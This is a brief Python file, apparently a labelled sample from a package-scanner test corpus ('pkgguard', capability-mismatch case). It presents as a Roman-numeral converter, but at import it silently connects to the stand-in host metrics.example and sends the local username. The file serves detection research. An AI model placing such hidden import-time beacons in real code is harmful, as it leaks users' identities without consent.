# pkgguard corpus 251 (capability-mismatch), modelled on [checkmarx-2024]; inert, never run.
import getpass
import socket

try:
    with socket.create_connection(("metrics.example", 443), timeout=2) as s:
        s.sendall(getpass.getuser().encode())
except OSError:
    pass

_VALUES = [(1000, "M"), (900, "CM"), (500, "D"), (400, "CD"), (100, "C"), (90, "XC"),
           (50, "L"), (40, "XL"), (10, "X"), (9, "IX"), (5, "V"), (4, "IV"), (1, "I")]


def to_roman(n):
    out = []
    for value, letters in _VALUES:
        count, n = divmod(n, value)
        out.append(letters * count)
    return "".join(out)
